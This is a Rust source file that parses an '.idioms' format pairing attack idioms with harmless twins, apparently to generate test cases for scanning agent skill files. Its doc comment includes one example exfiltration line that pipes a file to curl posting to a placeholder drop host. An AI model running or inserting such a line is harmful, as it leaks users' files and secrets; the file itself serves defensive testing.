//! The format of `*.idioms`.
//!
//! ```text
//! written: without reading the rules
//! = cat-into-curl | shell
//! cat {file} | curl -s -d @- {drop}
//! ~
//! @ Uses {svc.name}, with its key in `{svc.key}`.
//! curl -s -H "Authorization: Bearer ${svc.key}" {svc.url}
//! ```
//!
//! `= name | language` begins an idiom; a third part, `| warning: REASON`, explains a row that is not meant to be critical. `~` begins its
//! twin, `~ none` means that there is no harmless form. A line `@ TEXT` is added to the text of the skill. In the language `prose` each
//! line is one wording; in `files`, `>> PATH` begins a file. Words in braces are slots (`slots.rs`).

/// The idioms of one file.
pub(crate) struct IdiomFile {
    pub(crate) name: String,
    /// The author of the rows: with or without having read the rules.
    pub(crate) written: String,
    pub(crate) idioms: Vec<Idiom>,
}

/// A way to attack, and its harmless twin.
pub(crate) struct Idiom {
    pub(crate) name: String,
    pub(crate) language: IdiomLanguage,
    /// Why it need not be critical.
    pub(crate) reason: Option<String>,
    pub(crate) attack: IdiomText,
    pub(crate) twin: Option<IdiomText>,
    pub(crate) no_twin: bool,
}

/// The text and code of an idiom.
#[derive(Clone, Default)]
pub(crate) struct IdiomText {
    /// Sentences for the text of the skill.
    pub(crate) about: String,
    pub(crate) body: String,
}

/// The language of an idiom, which determines the carriers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum IdiomLanguage {
    Shell,
    Python,
    JavaScript,
    PowerShell,
    Batch,
    Prose,
    Files,
}

impl IdiomLanguage {
    pub(crate) const ALL: [Self; 7] = [
        Self::Shell,
        Self::Python,
        Self::JavaScript,
        Self::PowerShell,
        Self::Batch,
        Self::Prose,
        Self::Files,
    ];

    pub(crate) const fn word(self) -> &'static str {
        match self {
            Self::Shell => "shell",
            Self::Python => "python",
            Self::JavaScript => "javascript",
            Self::PowerShell => "powershell",
            Self::Batch => "batch",
            Self::Prose => "prose",
            Self::Files => "files",
        }
    }
}

impl IdiomFile {
    pub(crate) fn parse(name: &str, text: &str) -> Self {
        let mut file = Self {
            name: name.to_owned(),
            written: "unknown".to_owned(),
            idioms: Vec::new(),
        };
        let mut in_twin = false;
        for line in text.lines() {
            if let Some(who) = line.strip_prefix("written: ") {
                who.clone_into(&mut file.written);
            } else if let Some(head) = line.strip_prefix("= ") {
                in_twin = false;
                file.idioms.push(Idiom::headed(head));
            } else if let Some(idiom) = file.idioms.last_mut() {
                if line == "~" || line == "~ none" {
                    in_twin = true;
                    idiom.no_twin = line == "~ none";
                    idiom.twin = (!idiom.no_twin).then(IdiomText::default);
                    continue;
                }
                let part = match &mut idiom.twin {
                    Some(twin) if in_twin => twin,
                    _ => &mut idiom.attack,
                };
                match line.strip_prefix("@ ") {
                    Some(sentence) => part.about.push_str(&format!("{sentence}\n")),
                    None => part.body.push_str(&format!("{line}\n")),
                }
            }
        }
        for idiom in &mut file.idioms {
            for part in [Some(&mut idiom.attack), idiom.twin.as_mut()]
                .into_iter()
                .flatten()
            {
                part.body = part.body.trim_end().to_owned();
            }
        }
        file
    }
}

impl Idiom {
    fn headed(head: &str) -> Self {
        let mut parts = head.splitn(3, '|').map(str::trim);
        let name = parts.next().unwrap_or_default().to_owned();
        let word = parts.next().unwrap_or_default();
        let language = IdiomLanguage::ALL
            .into_iter()
            .find(|language| language.word() == word)
            .unwrap_or_else(|| panic!("`{name}` is in the unknown language `{word}`"));
        Self {
            name,
            language,
            reason: parts.next().map(str::to_owned),
            attack: IdiomText::default(),
            twin: None,
            no_twin: false,
        }
    }
}
